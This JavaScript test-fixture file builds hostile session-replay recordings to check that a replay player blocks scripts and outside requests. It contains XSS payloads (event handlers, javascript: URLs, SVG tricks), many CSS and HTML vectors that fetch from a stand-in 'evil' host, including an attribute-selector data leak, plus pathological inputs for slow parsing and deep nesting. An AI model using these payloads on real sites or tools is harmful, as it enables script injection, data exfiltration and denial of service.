/* Recordings that an attacker would post: everything that could run, ask or send, each naming an address of `evil`. */

const RUN = 'top.pwned=1;window.pwned=1;alert(1)';

class Page {
  #id = 0;
  events = [];
  constructor(at) { this.at = at; }
  text(textContent, isStyle = false) { return { type: 3, id: ++this.#id, textContent, ...(isStyle ? { isStyle } : {}) }; }
  el(tagName, attributes = {}, ...childNodes) {
    return { type: 2, id: ++this.#id, tagName, attributes, childNodes: childNodes.map((c) => (typeof c === 'string' ? this.text(c) : c)) };
  }
  svg(tagName, attributes = {}, ...childNodes) { return { ...this.el(tagName, attributes, ...childNodes), isSVG: true }; }
  push(after, type, data) { this.events.push({ type, timestamp: this.at + after, data }); return this; }
  change(after, data) { return this.push(after, 3, data); }
  show(head, body) {
    const html = this.el('html', {}, head, body);
    this.push(0, 4, { href: 'https://shop.example/', width: 1024, height: 768 });
    this.document = ++this.#id;
    return this.push(0, 2, { node: { type: 0, id: this.document, childNodes: [{ type: 1, id: ++this.#id, name: 'html', publicId: '', systemId: '' }, html] }, initialOffset: { left: 0, top: 0 } });
  }
  mark(parent) { return this.change(900, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: parent.id, nextId: null, node: this.el('h2', {}) }, { parentId: this.#id, nextId: null, node: this.text('All of it was played') }] }); }
}

/** What of a style sheet asks for something, each with elements of its own, so that none is overruled by another. What may swallow the rest comes last. */
const css = (evil, n) => `@import "${evil}/${n}-import.css";@import url(${evil}/${n}-import-url.css);@font-face{font-family:x${n};src:url(${evil}/${n}-font.woff2)}
@font-face{font-family:y${n};src:u\\72l("${evil}/${n}-escaped-font.woff2")}.${n}-font{font-family:x${n}}.${n}-escaped-font{font-family:y${n}}.${n}-bg{background:url(${evil}/${n}-bg.png)}
.${n}-content::before{content:url(${evil}/${n}-content.png)}.${n}-escaped{background:\\75rl(${evil}/${n}-escaped.png)}.${n}-cursor{cursor:url(${evil}/${n}.cur),auto}
.${n}-list{display:list-item;list-style:url(${evil}/${n}-list.png)}.${n}-leak[data-value^="a"]{background-image:image-set("${evil}/${n}-leak-a.png" 1x)}
.${n}-border{border:1px solid;border-image:url(${evil}/${n}-border.png) 1}.${n}-mask{mask-image:url(${evil}/${n}-mask.svg)}.${n}-filter{filter:url(${evil}/${n}-filter.svg#f)}.${n}-var{--v:url(${evil}/${n}-var.png);background:var(--v)}
@namespace url(${evil}/${n}-ns);
.${n}-letter{--x:\u00e9url(data:/*) " */ );background:url(${evil}/${n}-letter.png);content:" "}.${n}-hash{--y:\u00e9url(#/*) " */ );background:url(${evil}/${n}-hash.png);content:" "}.${n}-nul{--z:\0url(data:/*) " */ );background:url(${evil}/${n}-nul.png);content:" "}
.${n}-set-semicolon{background:image-set("a;b" 2x,"${evil}/${n}-set-semicolon.png" 1x)}.${n}-set-comment{background:image-set(/*;*/"${evil}/${n}-set-comment.png" 1x)}.${n}-set-escaped{background:image\\2dset("${evil}/${n}-set-escaped.png" 1x)}
.${n}-set-var{--x:"${evil}/${n}-set-var.png";background:image-set(var(--x) 1x)}.${n}-joined{background:ur@font-face{src:url(x)}l(${evil}/${n}-joined.png)}
.${n}-broken{background:url("data:,
)}.${n}-broken-string{background:url(${evil}/${n}-broken-string.png)}b{content:")}.${n}-src{background:src("${evil}/${n}-src.png")}<!--b{}url(${evil}/${n}-comment.png)
@imp@import "a";ort "${evil}/${n}-joined-import.css";`;
const STYLED = ['font', 'escaped-font', 'bg', 'content', 'escaped', 'cursor', 'list', 'leak', 'border', 'mask', 'filter', 'var', 'letter', 'hash', 'nul', 'set-semicolon', 'set-comment', 'set-escaped', 'set-var', 'joined', 'broken-string', 'src'];
const styled = (p, ...sheets) => sheets.flatMap((n) => STYLED.map((name) => p.el('i', { class: `${n}-${name}`, 'data-value': 'abc' }, 'x')));

/** Markup, attributes, style sheets and every kind of change. */
export function everything(at, evil) {
  const p = new Page(at);
  const u = (name) => `${evil}/${name}`;
  const style = p.text(css(evil, 'text'), true);
  const img = p.el('img', { src: u('img.png'), srcset: `${u('2x.png')} 2x`, onerror: RUN, onload: RUN, rr_dataURL: u('rr.png'), loading: 'eager' });
  const canvas = p.el('canvas', { rr_dataURL: u('canvas.png'), width: '10', height: '10' });
  const link = p.el('link', { rel: 'stylesheet', href: u('sheet.css'), _cssText: css(evil, 'link') });
  // two texts of one style, which only together ask for something
  const halves = [[`.half{background:ur`, `l(${u('half.png')})}`], [`@imp`, `ort "${u('half.css')}";`], [`.half-set{background:image-set(`, `"${u('half-set.png')}" 1x)}`], [`.half-escaped{background:u\\72`, `l(${u('half-escaped.png')})}`], [`b{content:"`, `x"}.half-string{background:url(${u('half-string.png')})}`]].map((texts) => p.el('style', {}, ...texts));
  const split = p.el('style', { _cssText: `.split{background:ur/* rr_split */l(${u('split.png')})}` }, '', '');
  const ruled = p.el('style', {}, p.text('.declared{}', true));
  const lists = p.svg('svg', {}, p.svg('rect', { width: '9', height: '9', filter: [`url(${u('list-filter.svg')}#f)`], 'clip-path': [`url(${u('list-clip.svg')}#c)`] }), p.svg('svg:style', {}, p.text(css(evil, 'prefix'))), p.svg('svg:script', {}, RUN), p.svg('rect', { width: '9', height: '9' }, p.svg('set', { attributeName: 'filter', to: `u\\72l(${u('set-filter.svg')}#f)` })));
  const shadow = { ...p.el('x-evil', { onfocus: RUN }), isShadowHost: true, isCustom: true };
  shadow.childNodes.push({ ...p.el('img', { src: u('shadow.png') }), isShadow: true }, { ...p.el('style', {}, p.text(css(evil, 'shadow'), true)), isShadow: true }, ...styled(p, 'shadow').map((element) => ({ ...element, isShadow: true })));
  const body = p.el('body', { onload: RUN, background: u('body.png') }, p.el('main', { style: `background:url(${u('style.png')})` }),
    p.el('h1', { style: `background-image:url('${u('h1.png')}')` }, 'Hostile page'), p.el('p', {}, 'text'), p.el('li', {}, 'item'),
    p.el('script', { src: u('script.js') }, RUN), p.el('script', { type: 'module' }, `import ${JSON.stringify(u('module.js'))}`), p.el('noscript', {}, `<img src=${u('noscript.png')}>`),
    img, canvas, p.el('picture', {}, p.el('source', { srcset: u('source.webp') }), p.el('img', { src: `javascript:${RUN}` })),
    p.el('iframe', { src: u('frame'), srcdoc: `<script>${RUN}</script><img src=${u('srcdoc.png')}>`, rr_src: u('rr-frame') }), p.el('iframe', { src: `javascript:${RUN}` }), p.el('iframe', { src: u('plain-frame') }), p.el('iframe', { rr_src: `data:text/html,<script>${RUN}</script><img src=${u('data-frame.png')}>` }),
    p.el('object', { data: u('object.swf'), type: 'text/html' }), p.el('embed', { src: u('embed.html'), type: 'text/html' }), p.el('applet', { code: u('applet.class') }), p.el('portal', { src: u('portal') }),
    p.el('video', { src: u('video.mp4'), poster: u('poster.png'), autoplay: '', rr_mediaState: 'played' }, p.el('track', { src: u('track.vtt'), default: '' })), p.el('audio', { src: u('audio.mp3'), autoplay: '' }),
    p.el('a', { href: `javascript:${RUN}`, target: '_top', ping: u('ping'), autofocus: '', onfocus: RUN, tabindex: '0' }, 'link'), p.el('area', { href: u('area') }),
    p.el('form', { action: u('form'), method: 'post', target: '_blank' }, p.el('input', { name: 'a', value: 'abc', formaction: u('formaction'), autofocus: '', onfocus: RUN }), p.el('input', { type: 'image', src: u('input.png') }), p.el('button', { formaction: `javascript:${RUN}` }, 'Send')),
    p.el('svg', { xmlns: 'http://www.w3.org/2000/svg', onload: RUN }, p.el('script', { 'xlink:href': u('svg.js') }, RUN), p.el('use', { href: u('use.svg#a') }), p.el('image', { 'xlink:href': u('image.png'), href: u('image2.png') }), p.el('feImage', { href: u('fe.png') }), p.el('a', { 'xlink:href': `javascript:${RUN}` }, p.el('animate', { attributeName: 'href', values: `javascript:${RUN}`, begin: '0s', onbegin: RUN })), p.el('foreignObject', {}, p.el('img', { src: u('foreign.png') }))),
    p.svg('svg', { onload: RUN, width: '90', height: '60', style: `mask:url(${u('real-svg-mask.svg')}#m)` },
      p.svg('script', { href: u('real-svg.js'), 'xlink:href': u('real-svg-x.js') }, RUN), p.svg('style', {}, p.text(css(evil, 'svg'), true)), p.svg('use', { href: u('real-use.svg#a') }), p.svg('use', { 'xlink:href': u('real-use-x.svg#a') }),
      p.svg('image', { href: u('real-image.png'), width: '9', height: '9' }), p.svg('image', { 'xlink:href': u('real-image-x.png'), width: '9', height: '9' }, p.svg('set', { attributeName: 'href', to: u('real-set.png') }), p.svg('animate', { attributeName: 'href', values: `${u('real-animate-1.png')};${u('real-animate-2.png')}`, dur: '1s' })),
      p.svg('filter', { id: 'f' }, p.svg('feImage', { href: u('real-fe.png') })), p.svg('rect', { width: '9', height: '9', fill: `url(${u('real-fill.svg')}#a)`, stroke: `url(${u('real-stroke.svg')}#a)`, filter: `url(${u('real-filter.svg')}#f)`, 'clip-path': `url(${u('real-clip.svg')}#c)`, 'marker-end': `url(${u('real-marker.svg')}#m)`, cursor: `url(${u('real-svg.cur')}),auto` }),
      p.svg('linearGradient', { id: 'g', href: u('real-gradient.svg#g') }), p.svg('pattern', { id: 'p', href: u('real-pattern.svg#p') }), p.svg('text', {}, p.svg('textPath', { href: u('real-path.svg#p') }, 'on a path')), p.svg('a', { href: `javascript:${RUN}`, ping: u('real-ping') }, p.svg('animate', { attributeName: 'href', values: `javascript:${RUN}`, begin: '0s', onbegin: RUN })),
      p.svg('foreignObject', { width: '9', height: '9' }, p.el('img', { src: u('real-foreign.png') }), p.el('iframe', { src: u('real-foreign-frame') }))),
    p.el('video', { controls: '' }, p.el('source', { src: u('video-source.mp4') })), p.el('frameset', {}, p.el('frame', { src: u('old-frame') })), p.el('bgsound', { src: u('bgsound.wav') }), p.el('img', { lowsrc: u('lowsrc.png'), dynsrc: u('dynsrc.avi'), longdesc: u('longdesc'), usemap: u('usemap') }), p.el('td', { background: u('td.png') }), p.el('button', { popovertarget: 'x', formaction: u('button-form') }, 'x'), p.el('link', { rel: 'preload', imagesrcset: `${u('imagesrcset.png')} 2x`, as: 'image' }),
    p.el('math', {}, p.el('mi', { 'xlink:href': `javascript:${RUN}`, href: u('math') })), p.el('table', { background: u('table.png') }), p.el('marquee', { onstart: RUN }, 'x'), p.el('details', { open: '', ontoggle: RUN }), p.el('dialog', { open: '', rr_open_mode: 'modal' }, 'x'), p.el('canvas', { rr_dataURL: [u('canvas-list.png')] }), p.el('img', { attributionsrc: u('attribution') }), p.el('b', {}, 'bold'), p.el('i', { style: 'font-family:z' }, 'font'), ...['half', 'half-set', 'half-escaped', 'half-string', 'split', 'rule', 'declared', 'adopted', 'constructed-rule'].map((name) => p.el('i', { class: name }, 'x')),
    ...styled(p, 'text', 'link', 'prefix', 'svg', 'later', 'replace', 'constructed', 'constructed-replace', 'constructed-sync'), ...halves, split, ruled, lists, shadow);
  const head = p.el('head', {}, p.el('base', { href: `${evil}/base/`, target: '_top' }), p.el('meta', { 'http-equiv': 'refresh', content: `0;url=${u('refresh')}` }), p.el('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${u('csp')}` }),
    p.el('meta', { content: `0;url=${u('refresh-2')}`, 'http-equiv': 'refresh' }), p.el('meta', { name: 'referrer', content: 'unsafe-url' }), link, ...['preload', 'prefetch', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch', 'icon', 'apple-touch-icon', 'manifest', 'import', 'stylesheet', 'alternate stylesheet', 'compression-dictionary', 'expect', 'pingback', 'next'].map((rel) => p.el('link', { rel, href: u(`${rel.replace(' ', '-')}-hint`), as: 'image' })), p.el('style', {}, style));
  p.show(head, body);
  p.change(100, { source: 0, texts: [{ id: style.id, value: css(evil, 'later') }], removes: [], adds: [{ parentId: body.id, nextId: null, node: p.el('img', { src: u('late.png'), onerror: RUN }) }, { parentId: body.id, nextId: null, node: p.el('script', { src: u('late.js') }) }], attributes: [{ id: img.id, attributes: { src: u('changed.png'), onclick: RUN } }, { id: body.id, attributes: { style: { 'background-image': `url(${u('object-style.png')})`, cursor: [`url(${u('important.cur')}),auto`, 'important'] } } }] });
  p.change(200, { source: 8, id: ruled.id, adds: [{ rule: `@import "${u('rule-import.css')}"`, index: 0 }, { rule: `.rule{background:url(${u('rule.png')})}`, index: 1 }] });
  p.change(210, { source: 8, id: link.id, replaceSync: css(evil, 'replace') });
  p.change(220, { source: 13, id: ruled.id, index: [2], set: { property: 'background-image', value: `url(${u('declared.png')})`, priority: 'important' } });
  p.change(300, { source: 10, family: 'z', fontSource: `url(${u('font-event.woff2')})`, buffer: false });
  p.change(310, { source: 10, family: 'q', fontSource: JSON.stringify([1, 2, 3]), buffer: true });
  p.change(400, { source: 9, id: canvas.id, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: u('draw.png') }, 0, 0] }, { property: 'constructor', args: [RUN] }] });
  p.change(410, { source: 9, id: canvas.id, type: 0, property: 'fillStyle', args: [u('fill.png')], setter: true });
  p.change(500, { source: 15, id: p.document, styles: [{ styleId: 1, rules: [{ rule: `.adopted{background:url(${u('adopted.png')})}`, index: 0 }] }], styleIds: [1] });
  p.change(510, { source: 15, id: p.document, styles: [{ styleId: 2, rules: css(evil, 'constructed').split(/(?<=\})\s*(?=[.@])/).map((rule, index) => ({ rule, index })) }], styleIds: [1, 2] });
  p.change(520, { source: 8, styleId: 2, adds: [{ rule: `@import "${u('constructed-import.css')}"`, index: 0 }, { rule: `.constructed-rule{background:url(${u('constructed-rule.png')})}`, index: 0 }] });
  p.change(530, { source: 8, styleId: 2, replace: css(evil, 'constructed-replace') });
  p.change(540, { source: 8, styleId: 1, replaceSync: css(evil, 'constructed-sync') });
  p.change(600, { source: 7, id: img.id, type: 0, currentTime: 0 });
  p.change(610, { source: 16, define: { name: `x-${RUN}` } });
  p.change(700, { source: 2, type: 2, id: img.id, x: 1, y: 1 });
  p.push(800, 5, { tag: RUN, payload: { html: `<img src=${u('custom.png')}>` } });
  return p.mark(body).events;
}

/** The same with the names of elements and attributes in other letters than a recorder writes. */
export function shouted(events) {
  const mixed = (name, n) => (/^(rr_|_css|xlink:)/.test(name) ? name : n % 2 ? name.toUpperCase() : name.replace(/[a-z]/g, (c, i) => (i % 2 ? c : c.toUpperCase())));
  const other = (attributes) => Object.fromEntries(Object.entries(attributes ?? {}).map(([name, value], n) => [mixed(name, n), value]));
  const shout = (node, n = 0) => ({ ...node, ...(node.tagName ? { tagName: node.isSVG ? node.tagName : mixed(node.tagName, n), attributes: other(node.attributes) } : {}), ...(node.childNodes ? { childNodes: node.childNodes.map(shout) } : {}) });
  return events.map((event) => {
    if (event.type === 2) return { ...event, data: { ...event.data, node: shout(event.data.node) } };
    if (event.type !== 3 || event.data.source !== 0) return event;
    return { ...event, data: { ...event.data, adds: event.data.adds.map((add) => ({ ...add, node: shout(add.node) })), attributes: event.data.attributes.map((change) => ({ ...change, attributes: other(change.attributes) })) } };
  });
}

/** Style sheets of beginnings that never end: whoever reads each of them to its end, or tries each blank in every place, is busy for hours. */
export function slow(at) {
  const p = new Page(at);
  const pieces = ['@import url(', '@import url( ', '@import "x" ', '@font-face{', '@font-face{url(', 'url(', 'url( ', 'image-set("', ' ', '(', '{', '{}', '\\'];
  const styles = pieces.flatMap((piece) => [`url(x)${piece.repeat(50_000 / piece.length)}!`, `@import url(${piece.repeat(50_000 / piece.length)}!`]).map((css) => p.el('style', {}, p.text(css, true)));
  const split = p.el('style', { _cssText: '/* rr_split */'.repeat(20_000) }, ...Array.from({ length: 2_000 }, () => p.text('')));
  const body = p.el('body', {}, p.el('h1', {}, 'Slow page'), p.el('img', { srcset: `${', '.repeat(50_000)}!`, src: ' '.repeat(50_000) }), p.el('use', { href: '#'.repeat(50_000) }));
  p.show(p.el('head', {}, ...styles, split, p.el('link', { rel: 'stylesheet', _cssText: `@import "x" ${' '.repeat(50_000)}!` })), body);
  return p.mark(body).events;
}

/** A stack and a console line of the same kind. */
export const slowStack = () => [`${' '.repeat(50_000)}!`, `at ${'a '.repeat(25_000)}(x`, `https://a.example/${'react-'.repeat(10_000)}!`, `https://a.example/${'?'.repeat(50_000)}\r!`, `https://a.example/x${':1'.repeat(25_000)}!`, 'at seen (https://a.example/seen.js:1:2)'].join('\n');
export const slowPlace = () => `${'a'.repeat(500_000)} `;

/** Numbers and times that no clock and no screen has. */
export function numbers(at) {
  const p = new Page(at);
  const body = p.el('body', {}, p.el('h1', {}, 'Huge numbers'));
  p.show(p.el('head', {}), body);
  for (const n of [1e17, -1e17, 1e308, -1, 9007199254740993, 0.5]) {
    p.change(100, { source: 1, positions: [{ x: n, y: n, id: body.id, timeOffset: n }] });
    p.change(150, { source: 3, id: body.id, x: n, y: n });
    p.change(200, { source: 4, width: n, height: n });
    p.change(250, { source: n, id: n });
    p.push(300, n, {});
    p.push(n - at, 3, { source: 0, texts: [], attributes: [], removes: [], adds: [] });
    p.push(350, 4, { href: 'x', width: n, height: n });
  }
  return p.mark(body).events;
}

/** JSON of a page that nests deeper than any stack. */
export function deep(at, depth) {
  const open = Array.from({ length: depth }, (_, i) => `{"type":2,"id":${i + 10},"tagName":"b","attributes":{},"childNodes":[`).join('');
  const page = `${open}{"type":3,"id":5,"textContent":"deep"}${']}'.repeat(depth)}`;
  return `[{"type":4,"timestamp":${at},"data":{"href":"https://shop.example/","width":800,"height":600}},{"type":2,"timestamp":${at},"data":{"node":{"type":0,"id":1,"childNodes":[{"type":2,"id":2,"tagName":"html","attributes":{},"childNodes":[{"type":2,"id":3,"tagName":"body","attributes":{},"childNodes":[${page}]}]}]},"initialOffset":{"left":0,"top":0}}}]`;
}
